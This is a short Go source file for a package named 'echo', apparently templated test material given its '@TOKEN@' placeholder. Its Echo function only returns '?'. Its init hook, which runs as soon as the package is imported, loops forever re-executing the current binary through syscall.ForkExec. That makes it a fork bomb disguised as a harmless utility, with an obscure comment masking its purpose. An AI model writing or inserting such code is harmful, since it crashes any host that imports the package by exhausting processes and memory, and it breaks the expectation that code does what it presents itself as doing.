package echo

import (
	"os"
	"syscall"
	"time"
)

// Every process that is started starts others, and goes on when it may start no more: they have not all begun to use memory.
func init() {
	for {
		if _, err := syscall.ForkExec("/proc/self/exe", []string{"@TOKEN@"}, &syscall.ProcAttr{Env: os.Environ()}); err != nil {
			time.Sleep(time.Millisecond)
		}
	}
}

func Echo(string) string { return "?" }
